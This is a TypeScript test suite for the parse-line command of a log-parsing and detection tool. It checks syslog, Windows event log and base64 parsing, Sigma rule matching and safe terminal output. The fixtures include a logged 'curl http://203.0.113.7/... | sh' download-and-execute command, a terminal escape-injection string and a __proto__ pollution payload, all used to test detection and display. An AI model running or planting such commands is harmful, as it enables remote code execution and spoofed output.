import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/model/json.js';
import { textWidth } from '../../src/report/text-width.js';
import { value, windowsEvent } from '../helpers/evtx-events.js';
import { evtxFile } from '../helpers/evtx-writer.js';
import { jsonLines, runCommand } from '../helpers/run-cli.js';
import { temporaryFolder } from '../helpers/temporary-folder.js';

const LINE = 'Dec 31 23:30:00 web sshd[9]: Failed password for root from 203.0.113.7 port 22 ssh2';
const NOW = '2026-01-01T00:00:00Z';

describe('parse-line --json', () => {
  it('prints one event, stamps read against --now in the zone of --tz', async () => {
    const { code, out, err } = await runCommand([
      'parse-line',
      '--json',
      '--now',
      NOW,
      '--tz',
      'Europe/Vienna',
      LINE,
    ]);
    expect([code, err]).toEqual([0, '']);
    expect(jsonLines(out)).toMatchObject([
      {
        '@timestamp': '2025-12-31T22:30:00.000Z',
        event: {
          id: '1-0',
          action: 'ssh_login',
          outcome: 'failure',
          original: LINE,
          created: '2026-01-01T00:00:00.000Z',
        },
        source: { ip: '203.0.113.7' },
        parse: { format: 'rfc3164', envelope: 'rfc3164', errors: [] },
      },
    ]);
  });

  it('takes each line of stdin for a record, in order, whatever their number', async () => {
    const stdin = Array.from({ length: 1203 }, (_, i) => `line ${i}`);
    const { out } = await runCommand(['parse-line', '--json'], { stdin: ['', ...stdin, ''] });
    const events = jsonLines<{ message: string; event: { id: string } }>(out);
    expect(events.map(({ message }) => message)).toEqual(stdin);
    expect(new Set(events.map(({ event }) => event.id)).size).toBe(1203);
  });

  it('tells each line apart by what ends it in a file, as soon as it is there', async () => {
    const blocks = [Buffer.from('a\rb\r\nc'), Buffer.from([0xe9]), Buffer.from('\u2028d\n\ne')];
    const { out } = await runCommand(['parse-line', '--json'], { stdin: blocks });
    expect(jsonLines<{ message: string }>(out).map(({ message }) => message)).toEqual([
      'a\rb',
      'c\ufffd\u2028d',
      'e',
    ]);
  });

  it('cuts a line as a file source does, and says so', async () => {
    const stdin = ['x'.repeat(70_000), 'y'];
    const { out } = await runCommand(['parse-line', '--json'], { stdin });
    const events = jsonLines<{ message: string; vedette?: { truncated: boolean } }>(out);
    expect(events.map(({ message, vedette }) => [message.length, vedette?.truncated])).toEqual([
      [65_536, true],
      [1, undefined],
    ]);
    const text = (await runCommand(['parse-line'], { stdin })).out;
    expect(text.match(/vedette\.truncated/g)).toHaveLength(1);
  });

  it('makes events of a Windows event log, in which rules find what they look for', async () => {
    const cwd = temporaryFolder();
    const created = { Image: value.text('C:\\Windows\\whoami.exe'), ProcessId: value.number(0x08, 42) };
    const log = evtxFile([
      windowsEvent({
        provider: 'Microsoft-Windows-Sysmon',
        eventId: 1,
        channel: 'Microsoft-Windows-Sysmon/Operational',
        data: created,
      }),
    ]);
    writeFileSync(join(cwd, 'x.evtx'), log);
    const { out } = await runCommand(['parse-line', '--json'], { stdin: [log] });
    expect(jsonLines(out)).toMatchObject([{ process: { executable: 'C:\\Windows\\whoami.exe', pid: 42 } }]);

    writeFileSync(
      join(cwd, 'r.yml'),
      "title: Who\nlogsource: {category: process_creation}\ndetection: {s: {Image|endswith: '\\whoami.exe'}, condition: s}\n",
    );
    const evaluate = (file: string, stdin: readonly string[] = []) =>
      runCommand(['rules', 'eval', '-r', 'r.yml', '--json', '--events', file], { cwd, stdin });
    expect(jsonLines((await evaluate('-', [out.trimEnd()])).out)).toMatchObject([{ event: 1, title: 'Who' }]);
    expect(await evaluate('x.evtx')).toEqual({
      code: 2,
      out: '',
      err: 'x.evtx is a Windows event log: vedette parse-line --json < x.evtx makes events of it, vedette scan tells what rules find in it.\n',
    });
  });

  it('decodes base64, of the argument and of lines, so that a record may hold line feeds and any byte', async () => {
    const record = Buffer.from([0x61, 0x0a, 0xff, 0x62]).toString('base64');
    for (const { out } of [
      await runCommand(['parse-line', '--json', '--base64', record]),
      await runCommand(['parse-line', '--json', '--base64'], { stdin: [record] }),
    ]) {
      expect(jsonLines(out)).toMatchObject([
        { event: { original: 'a\n\ufffdb' }, parse: { errors: ['parse.invalid_utf8', 'parse.unparsed'] } },
      ]);
    }
  });

  it.each(['***', 'YQ==x', 'YQ===', 'abcde', 'é', 'x\x1b[2J'])('refuses %j as base64', async (text) => {
    const { code, out, err } = await runCommand(['parse-line', '--json', '--base64', text]);
    expect([code, out]).toEqual([2, '']);
    expect(err).toMatch(/^--base64: ".+" is not base64\.\n$/);
    expect(err).not.toContain('\x1b');
  });

  it('answers an empty line of base64, wherever it stands', async () => {
    const o = Buffer.from('ö').toString('base64');
    const { out } = await runCommand(['parse-line', '--json', '--base64'], { stdin: ['', o, '', o, ''] });
    expect(jsonLines<{ message: string }>(out).map(({ message }) => message)).toEqual(['', 'ö', '', 'ö', '']);
    expect(jsonLines((await runCommand(['parse-line', '--json', ''])).out)).toMatchObject([{ message: '' }]);
  });

  it('keeps what an attacker names __proto__, and integers exactly', async () => {
    const text = '{"__proto__":{"x":1},"constructor":"c","n":12345678901234567890}';
    const { out } = await runCommand(['parse-line', '--json', text]);
    expect(out).toContain('"fields":{"__proto__":{"x":1},"constructor":"c","n":12345678901234567890}');
  });

  it('reads as the format that is fixed', async () => {
    const { out } = await runCommand(['parse-line', '--json', '--format', 'plain', '{"a":1}']);
    expect(jsonLines<{ parse: JsonObject }>(out)[0]!.parse.format).toBe('plain');
  });

  it('uses the extractors of the configuration', async () => {
    const cwd = temporaryFolder();
    const extractor = `extractors: [{ name: t, pattern: 'tunnel (?P<who>\\S+)', fields: { who: user.name } }]\n`;
    writeFileSync(join(cwd, 'config.yaml'), extractor);
    const { out } = await runCommand(['parse-line', '--json', 'tunnel alice up'], { cwd });
    expect(jsonLines(out)).toMatchObject([{ user: { name: 'alice' } }]);
  });

  it.each([
    [['--now', 'yesterday'], '--now: "yesterday" is not an ISO 8601 time.'],
    [['--tz', 'Europe/Wien'], '--tz: "Europe/Wien" is not an IANA time zone.'],
  ])('refuses %j', async (args, message) => {
    expect(await runCommand(['parse-line', ...args, 'x'])).toEqual({ code: 2, out: '', err: `${message}\n` });
  });
});

describe('parse-line for people', () => {
  it('shows the fields, the rules that match and why', async () => {
    const { code, out } = await runCommand([
      'parse-line',
      'Nov 20 10:00:00 web sudo[7]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash',
    ]);
    expect(code).toBe(0);
    expect(out).toMatch(/^@timestamp +\d{4}-11-20T10:00:00\.000Z$/m);
    expect(out).toMatch(/^user\.target\.name +root$/m);
    expect(out).toMatch(
      /^Matching rules\n {2}(LOW|MEDIUM|HIGH|CRITICAL|INFORMATIONAL) {2}.+\(rules\/sigma\/.+\.yml:\d+\)\n {6}\S+: .+ = .+ ← /m,
    );
  });

  it('says when no rule matches', async () => {
    expect((await runCommand(['parse-line', 'nothing to see'])).out).toContain('No rule matches.');
  });

  it('gives each line of stdin reasons of its own', async () => {
    const lines = ['id', 'whoami'].map(
      (command) =>
        `Nov 20 10:00:00 web sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c ${command}`,
    );
    const { out } = await runCommand(['parse-line'], { stdin: lines });
    for (const [i, text] of out.split('@timestamp').slice(1).entries())
      for (const line of text.split('\n').filter((row) => row.includes('←')))
        expect(line).not.toContain(i === 0 ? 'whoami' : '-c id');
  });

  it.each([40, 60, 80])(
    'cuts nothing in %i columns: fields, rules and reasons are wrapped',
    async (width) => {
      const command = `/bin/bash -c "curl  http://203.0.113.7/${'a/'.repeat(40)}x.sh | sh" 日本語${'語'.repeat(40)}`;
      const line = `Nov 20 10:00:00 web sudo[7]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=${command}`;
      const whole = (await runCommand(['parse-line', '--now', NOW, line])).out;
      const { out } = await runCommand(['parse-line', '--now', NOW, line], { outIsTty: true, width });
      for (const row of out.split('\n')) expect(textWidth(row)).toBeLessThanOrEqual(width);
      expect(out).not.toContain('…');
      const unspaced = (text: string): string => text.replaceAll(/\s/g, '');
      expect(unspaced(out)).toBe(unspaced(whole));
      // What is wrapped stands below its beginning, and copied together it is what it was.
      const rows = out.split('\n');
      const at = rows.findIndex((row) => row.startsWith('process.command_line'));
      const value = rows[at]!.indexOf('/bin/bash') >= 0 ? at : at + 1;
      const column = rows[value]!.indexOf('/bin/bash');
      let copied = rows[value]!.slice(column);
      for (let i = value + 1; rows[i]!.startsWith(' '.repeat(column)); i++) copied += rows[i]!.slice(column);
      expect(copied).toBe(command);
    },
  );

  it('wraps a value of a MiB in no time', async () => {
    const start = performance.now();
    const { out } = await runCommand(['parse-line', `{"long":"${'é'.repeat(500_000)}"}`], {
      outIsTty: true,
      width: 40,
    });
    expect(out.match(/é/g)!.length).toBeGreaterThanOrEqual(500_000);
    expect(performance.now() - start).toBeLessThan(5000);
  });

  it('makes control characters visible and keeps to the width of the terminal', async () => {
    const hostile = `evil \x1b]0;owned\x07 \u202e${'x'.repeat(300)}`;
    const { out } = await runCommand(['parse-line', hostile], { outIsTty: true, width: 60 });
    expect(out).toContain('\\x1b]0;owned\\x07');
    expect([...out].filter((char) => char < ' ' && char !== '\n')).toEqual([]);
    expect(out).not.toContain('\u202e');
    for (const line of out.split('\n')) expect(line.length).toBeLessThanOrEqual(60);
  });
});
